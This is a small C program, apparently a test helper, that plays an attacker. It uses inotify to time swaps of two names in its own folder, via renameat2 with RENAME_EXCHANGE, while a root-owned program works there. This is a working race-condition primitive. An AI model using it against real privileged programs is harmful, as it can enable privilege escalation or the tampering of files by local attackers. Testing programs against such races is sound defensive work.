/*
 * An attacker: exchanges two names of a folder of his while a program of root's works in it.
 *
 *   exchange FOLDER ONE OTHER FIRST COUNT
 *
 * Counts what inotify reports of FOLDER and of FOLDER/sub, and exchanges ONE and OTHER at the events FIRST to
 * FIRST + COUNT - 1. Prints "ready", and then a line for each exchange.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 6 || chdir(argv[1]) != 0) return 2;
  int events = inotify_init();
  if (inotify_add_watch(events, ".", IN_ALL_EVENTS) < 0) return 2;
  inotify_add_watch(events, "sub", IN_ALL_EVENTS);
  long first = atol(argv[4]), last = first + atol(argv[5]) - 1;
  dprintf(1, "ready\n");
  char buffer[65536];
  for (long number = 0; number < last;) {
    ssize_t length = read(events, buffer, sizeof buffer);
    for (char *at = buffer; at < buffer + length && number < last;) {
      struct inotify_event *event = (struct inotify_event *)at;
      number++;
      if (number >= first && renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0)
        dprintf(1, "exchanged at %ld\n", number);
      at += sizeof *event + event->len;
    }
  }
  pause();
}
